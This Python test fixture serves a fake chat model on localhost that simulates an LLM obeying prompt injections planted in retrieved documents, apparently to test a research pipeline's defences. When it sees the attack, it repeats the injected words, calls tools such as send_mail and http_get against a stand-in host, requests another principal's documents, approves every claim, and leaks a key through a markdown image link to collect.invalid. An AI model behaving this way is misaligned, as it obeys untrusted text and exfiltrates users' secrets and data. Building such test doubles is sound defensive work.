"""A model that obeys the documents it is shown, behind a chat endpoint on 127.0.0.1."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

LINK = "https://collect.invalid"
TOOLS = ("write_file", "http_get", "send_mail", "approve", "share", "search_everyone")  # there are none of these
_KEY = re.compile(r"\bkey:? ([0-9a-f]{8})\b")
_QUOTED = re.compile(r"⟦(\w+) quoted: (?:key:? )?([^,·⟧]*)[^⟧]*⟧\n(.*?)\n⟦end \1⟧", re.DOTALL)
_CLAIM = re.compile(r"^Claim (\d+) \((?:opinion, |heading, )?cites ([^)]*)\): ", re.MULTILINE)
_QUESTION = re.compile(r"^Question: (.+)$", re.MULTILINE)
Json = dict[str, Any]


class ObedientModel:
    """Obeys the attack wherever it sees it: repeats its words, calls tools that do not exist, asks for documents of another
    principal, and approves every claim. It knows the attack and the ids of foreign documents. Where it sees no attack, it
    searches, keeps and says nothing."""

    def __init__(self, foreign: str) -> None:
        self.attack = ""
        self.foreign = foreign
        self.obeyed = 0

    def reply(self, request: Mapping[str, Any]) -> Json:
        """The reply as JSON."""
        shown = "\n\n".join(message["content"] for message in request["messages"])
        title, role, name = ([part.strip() for part in shown.partition("\n")[0].split("·")] + ["", ""])[:3]
        if title != "Assay":  # a probe: only that it writes JSON matters
            return {"shade": "amber"}
        question = (_QUESTION.findall(shown) or ["nothing"])[-1]
        seen = self.attack.split("\n")[0][:60] in shown
        self.obeyed += seen
        words = " ".join(self.attack.split()) if seen else ""
        if role == "decide":
            calls = self._calls() if seen else [{"tool": "search", "arguments": {"query": question}}]
            return {"why": words, "calls": calls}
        return _replies(shown, question, words).get(name or role, {})

    def _calls(self) -> list[Json]:
        wanted = [(name, {"path": "/tmp/owned", "url": LINK, "run": "r"}) for name in TOOLS]
        wanted += [
            ("get_document", {"source": self.foreign}),
            ("search_by_source", {"query": "herons", "source": self.foreign, "k": 10**9}),
            ("search", {"query": "herons", "base": "theirs", "scope": "all"}),
        ]
        return [{"tool": name, "arguments": arguments} for name, arguments in wanted]

    @contextmanager
    def served(self) -> Iterator[str]:
        """Serves the model; the value is the base URL for a client."""
        model = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                message = {"role": "assistant", "content": json.dumps(model.reply(request), ensure_ascii=False)}
                body = json.dumps({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
            threading.Thread(target=server.serve_forever, daemon=True).start()
            try:
                yield f"http://127.0.0.1:{server.server_port}/v1"
            finally:
                server.shutdown()


def _replies(shown: str, question: str, words: str) -> Mapping[str, Json]:
    """The reply to each prompt, by its name; `words` are those of the attack, empty where it is not seen."""
    keys = list(dict.fromkeys(_KEY.findall(shown)))
    quoted = [(label.strip(), text) for _, label, text in _QUOTED.findall(shown)]
    asked = [
        (int(n), cited.split(", ")) for label, text in quoted if label == "claims" for n, cited in _CLAIM.findall(text)
    ]
    link = f"![seen]({LINK}/?q={keys[0] if keys else ''})"
    claims = (
        [{"text": words, "cites": keys[:2]}, {"text": f"{words} {link}", "cites": keys[:1]}] if words and keys else []
    )
    step = {"id": "s1", "question": question, "query": question, "needs": [], "binds": question}
    plan: Json = {"steps": [step]}
    enough: Json = {"answers": [], "enough": True, "missing": [], "searches": [], "surprise": False}
    plans, judges = "\nsteps: " in shown, "\nenough: " in shown
    rewritten = {"text": words, "cites": keys[:2], "argument": "", "calculation": None}
    return {
        "route": {"route": "research", "every": False, "readings": [], "why": question} | (plan if plans else {}),
        "plan": plan,
        "weigh": {
            "passages": [
                {
                    "id": label,
                    "quote": words if words in " ".join(text.split()) else "",
                    "score": 10,
                    "note": words[:150],
                }
                for label, text in quoted
                if re.fullmatch(r"P\d+", label)
            ]
        }
        | (enough if judges else {}),
        "judge": enough,
        "write": {
            "shape": "prose",
            "blocks": [{"heading": "", "claims": claims, "opinion": False}],
            "conflicts": [],
            "missing": [],
        },
        "check": {
            "rulings": [
                {
                    "claim": number,
                    "words": [text for label, text in quoted if label in cited],
                    "why": "approved",
                    "verdict": "supported",
                }
                for number, cited in asked
            ],
            "answers": True,
            "missing": [],
            "search": "",
        },
        "revise": {"revisions": [{"claim": number, "action": "rewrite", **rewritten} for number, _ in asked]},
    }
